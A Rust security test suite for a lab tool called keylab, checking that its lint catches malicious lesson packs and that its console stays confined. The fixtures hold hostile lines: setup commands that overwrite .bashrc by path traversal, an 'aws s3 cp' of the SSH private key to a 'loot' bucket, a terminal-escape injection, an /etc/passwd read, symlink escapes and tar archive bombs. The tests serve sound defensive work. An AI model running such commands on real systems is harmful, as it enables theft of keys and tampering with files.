//! Packs are untrusted input: each attack of the security review, carried by a pack folder or a
//! `.tar.gz`, is named by `keylab pack lint` with its file and line, and running, checking or
//! verifying the pack changes nothing outside the data directory (a fake home is snapshotted
//! before and after). The console's confinement is tested on its own as well, as if the lint
//! had been bypassed: a symlink out of the workspace is neither followed to read nor to write.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::common::Lab;

/// Every file under `root` (not following links) with its bytes, except under `skip`.
fn snapshot(root: &Path, skip: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            if path.starts_with(skip) {
                continue;
            }
            let kind = entry.file_type().unwrap();
            if kind.is_dir() {
                stack.push(path);
            } else if kind.is_symlink() {
                out.insert(
                    path.clone(),
                    std::fs::read_link(&path)
                        .unwrap()
                        .into_os_string()
                        .into_encoded_bytes(),
                );
            } else {
                out.insert(path.clone(), std::fs::read(&path).unwrap());
            }
        }
    }
    out
}

/// A fake home with the files an attack would go for, and the data directory inside it.
struct Home {
    _dir: tempfile::TempDir,
    home: PathBuf,
    data: PathBuf,
}

impl Home {
    fn new() -> Home {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".bashrc"), "# the learner's bashrc\n").unwrap();
        std::fs::write(home.join(".profile"), "# the learner's profile\n").unwrap();
        std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN FAKE KEY-----\n").unwrap();
        let data = home.join(".local/share/keylab");
        Home {
            _dir: dir,
            home,
            data,
        }
    }

    fn keylab(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_keylab"))
            .args(args)
            .env("HOME", &self.home)
            .env("KEYLAB_DATA_DIR", &self.data)
            .env_remove("KEYLAB_WORKSHOP")
            .env_remove("GITHUB_STEP_SUMMARY")
            .current_dir(&self.home)
            .output()
            .expect("keylab runs")
    }
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// The template pack, named `name`, in `dir`.
fn scaffold(home: &Home, dir: &Path, name: &str) {
    let out = home.keylab(&["pack", "new", dir.to_str().unwrap(), "--name", name]);
    assert!(out.status.success(), "{}", text(&out));
}

fn append(path: &Path, more: &str) {
    let mut f = std::fs::OpenOptions::new().append(true).open(path).unwrap();
    f.write_all(more.as_bytes()).unwrap();
}

#[test]
fn every_path_and_escape_attack_is_named_by_lint_and_nothing_outside_changes() {
    let home = Home::new();
    let pack = home.home.join("Downloads/evil");
    scaffold(&home, &pack, "evil-paths");
    let h = home.home.display().to_string();
    let exercise = pack.join("exercises/first-key/exercise.toml");
    append(
        &exercise,
        &format!(
            r#"
[[setup]]
run = "aws kms create-key --description pwned --query KeyMetadata.Description --output text > ../../../../../.bashrc"

[[setup]]
dataset = "../../../../../.profile"

[[setup]]
run = "aws kms encrypt --key-id {{{{key_id}}}} --plaintext fileb://{h}/.ssh/id_rsa"

[[setup]]
run = "aws s3 cp {h}/.ssh/id_rsa s3://loot/id_rsa"
"#
        ),
    );
    let solution = pack.join("graders/first-key/solution");
    append(
        &solution,
        &format!(
            "aws s3api get-object --bucket loot --key k {h}/.bashrc\n\
             crypto encrypt --data-key key.json --in a.txt --out ../../../../../.profile\n\
             aws kms describe-key --cli-input-json file://../../../../../.ssh/id_rsa\n"
        ),
    );
    std::fs::write(
        pack.join("exercises/first-key/rules.toml"),
        format!("[key]\nsource = \"file:{h}/.ssh/id_rsa\"\n"),
    )
    .unwrap();
    let lesson = pack.join("lessons/01-first-key.md");
    append(
        &lesson,
        "\nA friendly line\u{1b}]0;pwned\u{7}\u{1b}[2J that clears the screen.\n",
    );
    let grader = pack.join("graders/first-key.toml");
    append(
        &grader,
        "\n[[check]]\ntitle = \"reads a file outside\"\n[check.file]\npath = \"/etc/passwd\"\nexists = true\n",
    );

    let before = snapshot(&home.home, &home.data);
    let out = home.keylab(&["--pack", pack.to_str().unwrap(), "pack", "lint"]);
    let report = text(&out);
    assert!(!out.status.success(), "{report}");
    assert!(
        !report.contains('\u{1b}'),
        "no raw escape reaches the terminal: {report}"
    );
    for expected in [
        "exercise.toml:",
        "a setup step names \"../../../../../.bashrc\"",
        "dataset names \"../../../../../.profile\"",
        &format!("a setup step names \"{h}/.ssh/id_rsa\""),
        &format!("a script line names \"{h}/.bashrc\""),
        "a script line names \"../../../../../.profile\"",
        "a script line names \"../../../../../.ssh/id_rsa\"",
        &format!("a masking key source names \"{h}/.ssh/id_rsa\""),
        "01-first-key.md:",
        "\\x1b]0;pwned\\x07",
        "a check names \"/etc/passwd\"",
    ] {
        assert!(
            report.contains(expected),
            "lint should report {expected:?}:\n{report}"
        );
    }
    // Running it in any way runs nothing: the pack does not load.
    for args in [
        vec!["run", "first-key", "--", "ls"],
        vec!["check", "first-key"],
        vec!["verify"],
    ] {
        let mut all = vec!["--pack", pack.to_str().unwrap(), "--trust"];
        all.extend(args);
        let out = home.keylab(&all);
        assert!(!out.status.success(), "{}", text(&out));
        assert!(!text(&out).contains('\u{1b}'), "{}", text(&out));
    }
    assert_eq!(
        snapshot(&home.home, &home.data),
        before,
        "nothing outside the data directory changed"
    );
}

#[cfg(unix)]
#[test]
fn links_devices_and_archive_bombs_are_refused_with_their_names() {
    let home = Home::new();
    let pack = home.home.join("evil-links");
    scaffold(&home, &pack, "evil-links");
    let starter = pack.join("exercises/first-key/id_rsa");
    std::os::unix::fs::symlink(home.home.join(".ssh/id_rsa"), &starter).unwrap();
    let out = home.keylab(&["--pack", pack.to_str().unwrap(), "pack", "lint"]);
    assert!(
        text(&out).contains("id_rsa: is a symlink"),
        "{}",
        text(&out)
    );
    std::fs::remove_file(&starter).unwrap();
    std::fs::hard_link(home.home.join(".ssh/id_rsa"), &starter).unwrap();
    let out = home.keylab(&["--pack", pack.to_str().unwrap(), "pack", "lint"]);
    assert!(
        text(&out).contains("id_rsa: is a hard link"),
        "{}",
        text(&out)
    );
    std::fs::remove_file(&starter).unwrap();
    let out = home.keylab(&["--pack", pack.to_str().unwrap(), "pack", "lint"]);
    assert!(out.status.success(), "the clean pack lints: {}", text(&out));

    // Archives: each made with the tar crate, as an attacker would.
    let archive =
        |name: &str, build: &dyn Fn(&mut tar::Builder<flate2::write::GzEncoder<std::fs::File>>)| {
            let path = home.home.join(name);
            let file = std::fs::File::create(&path).unwrap();
            let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
                file,
                flate2::Compression::fast(),
            ));
            tar.append_dir_all("pack", &pack).unwrap();
            build(&mut tar);
            tar.into_inner().unwrap().finish().unwrap();
            path
        };
    let link = |kind: tar::EntryType, target: String| {
        move |tar: &mut tar::Builder<flate2::write::GzEncoder<std::fs::File>>| {
            let mut header = tar::Header::new_gnu();
            header.set_entry_type(kind);
            header.set_size(0);
            header.set_mode(0o644);
            tar.append_link(&mut header, "pack/exercises/first-key/id_rsa", &target)
                .unwrap();
        }
    };
    let h = home.home.display().to_string();
    let symlinked = archive(
        "symlink.tar.gz",
        &link(tar::EntryType::Symlink, format!("{h}/.ssh/id_rsa")),
    );
    let hard = archive(
        "hardlink.tar.gz",
        &link(tar::EntryType::Link, "pack/pack.toml".into()),
    );
    let many = archive("many.tar.gz", &|tar| {
        for i in 0..10_050 {
            let mut header = tar::Header::new_gnu();
            header.set_size(0);
            header.set_mode(0o644);
            header.set_cksum();
            tar.append_data(
                &mut header,
                format!("pack/lessons/x{i}.md"),
                std::io::empty(),
            )
            .unwrap();
        }
    });
    let bomb = archive("longname.tar.gz", &|tar| {
        // A GNU long-name record of 200 MiB: tiny once compressed.
        let size: u64 = 200 << 20;
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::GNULongName);
        header.set_path("././@LongLink").unwrap();
        header.set_size(size);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append(&header, std::io::Read::take(std::io::repeat(b'a'), size))
            .unwrap();
    });
    for (path, expected) in [
        (
            &symlinked,
            "id_rsa is a symlink: a pack holds regular files only",
        ),
        (
            &hard,
            "id_rsa is a hard link: a pack holds regular files only",
        ),
        (&many, "has more than 10000 members"),
        (&bomb, "decompresses to more than 64 MiB (headers included)"),
    ] {
        let out = home.keylab(&["--pack", path.to_str().unwrap(), "pack", "lint"]);
        assert!(!out.status.success(), "{}", text(&out));
        assert!(
            text(&out).contains(expected),
            "{}: {}",
            path.display(),
            text(&out)
        );
    }
}

#[tokio::test]
async fn the_console_stays_in_its_workspace_whatever_is_in_it() {
    let lab = Lab::start().await;
    let backend = keylab::backend::Backend::from_engine(&lab.engine);
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "do not read me").unwrap();
    let workspace = outside.path().join("workspace");
    std::fs::create_dir_all(&workspace).unwrap();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&secret, workspace.join("link.txt")).unwrap();
        std::os::unix::fs::symlink(outside.path(), workspace.join("up")).unwrap();
    }
    let console = keylab::console::Console::new(&backend, &workspace, "owner-admin");
    let refused = |line: &str, outcome: keylab::console::Outcome| {
        assert!(!outcome.is_success(), "{line} must be refused: {outcome:?}");
        outcome.stderr
    };
    for line in [
        "cat ../secret.txt",
        &format!("cat {}", secret.display()),
        "aws kms encrypt --key-id alias/x --plaintext fileb://../secret.txt",
        "aws kms create-key --description x > ../owned.txt",
        &format!(
            "aws kms create-key --description x > {}/owned.txt",
            outside.path().display()
        ),
        "crypto decrypt --in ../secret.txt --out plain.txt",
        "mask generate customers --rows 3 --out ../owned.csv",
    ] {
        let stderr = refused(line, console.run(line).await);
        assert!(stderr.contains("inside the workspace"), "{line}: {stderr}");
    }
    #[cfg(unix)]
    {
        for line in [
            "cat link.txt",
            "cat up/secret.txt",
            "aws kms encrypt --key-id alias/x --plaintext fileb://link.txt",
            "aws kms create-key --description x > up/owned.txt",
        ] {
            let stderr = refused(line, console.run(line).await);
            assert!(
                stderr.contains("symlink leads out of the workspace"),
                "{line}: {stderr}"
            );
        }
        // Writing to the symlink's name replaces the link, never the file it pointed to.
        let out = console.run("aws kms create-key --description x --query KeyMetadata.KeyId --output text > link.txt").await;
        assert!(out.is_success(), "{out:?}");
        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "do not read me");
    }
    assert!(!outside.path().join("owned.txt").exists());
    assert!(!outside.path().join("owned.csv").exists());
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "do not read me");
}

#[cfg(unix)]
#[test]
fn what_keylab_keeps_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let home = Home::new();
    let out = home.keylab(&["run", "first-cmk", "--", "ls"]);
    assert!(out.status.success(), "{}", text(&out));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let lab = home.data.join("labs/first-cmk");
    for dir in [
        &home.data,
        &lab,
        &lab.join("workspace"),
        &lab.join("engine"),
    ] {
        assert_eq!(mode(dir), 0o700, "{}", dir.display());
    }
    for file in [
        home.data.join("learner.key"),
        lab.join("engine/audit.jsonl"),
        lab.join("engine/state.redb"),
        lab.join("engine/master.key"),
        lab.join("workspace/README.md"),
    ] {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }
}
